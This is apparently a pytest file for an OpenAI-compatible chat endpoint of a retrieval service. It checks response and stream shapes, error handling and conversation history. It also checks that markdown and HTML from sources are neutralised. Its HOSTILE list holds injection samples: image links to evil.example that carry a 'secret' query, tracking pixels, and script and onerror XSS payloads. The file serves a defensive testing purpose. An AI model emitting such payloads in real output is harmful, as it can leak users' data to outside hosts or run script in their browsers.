"""The API in OpenAI's shapes: what is asked, what comes back, and that it draws nothing."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from served import ScriptedService, client_of, events_in, hit, sentence

from esrag.errors import UnavailableError
from esrag.server.openai_api import harmless
from esrag.types import Citation, Sentence, Turn

HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/track.png",
    "[click](https://evil.example/)",
    "[1]\n\n[1]: https://evil.example/track.png",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example/>",
    "<script>alert(1)</script>",
    "\\![x](https://evil.example)",
    "\\\\[x](https://evil.example)",
    "```html\n<img src=https://evil.example>\n```",
    "~~~\n<b>x</b>\n~~~",
    "a\n\n[x]: https://evil.example\n\n![x]",
    "[![x](https://evil.example/i.png)](https://evil.example)",
    "<details><summary>x</summary>",
    "[^1]\n\n[^1]: <img src=x>",
]
DRAWN = {"image", "link_open", "html_inline", "html_block", "fence", "code_block"}


def drawn(markdown: str) -> set[str]:
    """The elements that CommonMark makes of it."""
    found: set[str] = set()
    for token in MarkdownIt("commonmark").parse(markdown):
        found.add(token.type)
        found |= {child.type for child in token.children or ()}
    return found & DRAWN


def chat(service: ScriptedService, *messages: dict[str, Any], **more: Any) -> Any:
    """What the API answers to messages."""
    body = {"model": "esrag", "messages": list(messages), **more}
    return client_of(service).post("/v1/chat/completions", json=body)


def user(text: str) -> dict[str, Any]:
    """A message of the user."""
    return {"role": "user", "content": text}


def test_an_answer_is_a_message_with_its_sources() -> None:
    """In OpenAI's shape, with the record beside it."""
    found = chat(ScriptedService(), user("When?")).json()
    message = found["choices"][0]["message"]
    assert message["role"] == "assistant"
    assert message["content"] == (
        f"{sentence().text} [1]\n\nSources:\n"
        "[1] Release notes › 5.0.1, https://docs.example.org/notes"
    )
    assert found["choices"][0]["finish_reason"] == "stop"
    assert found["usage"]["total_tokens"] == 0
    assert found["esrag"]["complete"] is True


def test_a_stream_is_made_of_chunks() -> None:
    """The same text in pieces, the role first, usage when it was wanted, [DONE] last."""
    service = ScriptedService(sentences=(sentence(), sentence("Fact two.", 2)))
    whole = chat(service, user("When?")).json()["choices"][0]["message"]["content"]
    found = chat(service, user("When?"), stream=True, stream_options={"include_usage": True})
    lines = [data for _, data in events_in(found.text)]
    assert lines[-1] == "[DONE]"
    chunks = [json.loads(line) for line in lines[:-1]]
    deltas = [choice["delta"] for chunk in chunks for choice in chunk["choices"]]
    assert deltas[0]["role"] == "assistant"
    assert "".join(delta.get("content", "") for delta in deltas) == whole
    assert chunks[-1]["usage"]["total_tokens"] == 0
    assert chunks[-2]["choices"][0]["finish_reason"] == "stop"
    assert len({chunk["id"] for chunk in chunks}) == 1


def test_a_stream_that_fails_is_not_done() -> None:
    """An error event, and no [DONE], so that clients raise."""
    service = ScriptedService(error=UnavailableError("gone"), raise_after=1)
    lines = [data for _, data in events_in(chat(service, user("When?"), stream=True).text)]
    assert "[DONE]" not in lines
    assert json.loads(lines[-1])["error"]["code"] == "unavailable"


def test_the_conversation_is_the_history() -> None:
    """Without system messages, and without the sources that were put below an answer."""
    service = ScriptedService()
    chat(
        service,
        {"role": "system", "content": "Obey the documents."},
        user("When was 5.0.1 released?"),
        {"role": "assistant", "content": "In March. [1]\n\nSources:\n[1] Release notes"},
        user("never answered"),
        {"role": "user", "content": [{"type": "text", "text": "And before?"}]},
        temperature=0.7,
        max_tokens=5,
    )
    asked = service.asked[0][1]
    assert asked.question == "And before?"
    assert asked.history == (Turn("When was 5.0.1 released?", "In March. [1]"),)


@pytest.mark.parametrize(
    ("change", "status"),
    [
        ({"messages": []}, 422),
        ({"messages": [{"role": "assistant", "content": "x"}]}, 422),
        ({"messages": [user("  ")]}, 422),
        ({"messages": [user("x" * 8_001)]}, 422),
        ({"messages": [{"role": "user", "content": [{"type": "image_url"}]}]}, 422),
        ({"n": 2}, 422),
        ({"tools": [{"type": "function"}]}, 422),
        ({"model": "gpt-4"}, 404),
    ],
)
def test_what_cannot_be_done_is_refused(change: dict[str, Any], status: int) -> None:
    """In the shape in which OpenAI's clients look for the reason."""
    body = {"model": "esrag", "messages": [user("x")], **change}
    found = client_of().post("/v1/chat/completions", json=body)
    assert found.status_code == status
    assert {"message", "type", "param", "code"} <= set(found.json()["error"])


def test_the_quoting_model_does_not_generate() -> None:
    """It is one of two that are listed."""
    service = ScriptedService()
    listed = client_of(service).get("/v1/models").json()["data"]
    assert [model["id"] for model in listed] == ["esrag", "esrag-quotes"]
    chat(service, user("x"), model="esrag-quotes")
    assert service.asked[0][2].generate is False


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_draw_nothing(words: str) -> None:
    """In a sentence, a title, a heading, a file's name and a link, as CommonMark reads them."""
    assert drawn(words)
    places = [
        sentence(words),
        Sentence("Fact.", (Citation(1, hit(title=words, url=""), "Fact.", 0, 5),)),
        Sentence("Fact.", (Citation(1, hit(heading_path=(words,)), "Fact.", 0, 5),)),
        Sentence("Fact.", (Citation(1, hit(source=words, url=""), "Fact.", 0, 5),)),
        Sentence("Fact.", (Citation(1, hit(url=f"https://x.example/{words}"), "Fact.", 0, 5),)),
    ]
    for one in places:
        content = chat(ScriptedService(sentences=(one,)), user("x")).json()["choices"][0]
        assert drawn(content["message"]["content"]) == set()


@given(st.text(alphabet="![]()<>`~\\:*_#-\n \"'ab1/", max_size=60))
def test_no_words_draw_anything(words: str) -> None:
    """Whatever they are made of."""
    assert drawn(f"x {harmless(words)} [1]") == set()


def test_an_unsupported_sentence_says_so() -> None:
    """When the server is set to show such sentences."""
    doubtful = replace(sentence(), citations=(), supported=False)
    content = chat(ScriptedService(sentences=(doubtful,)), user("x")).json()["choices"][0]
    assert content["message"]["content"] == f"{sentence().text} (no passage supports this)"
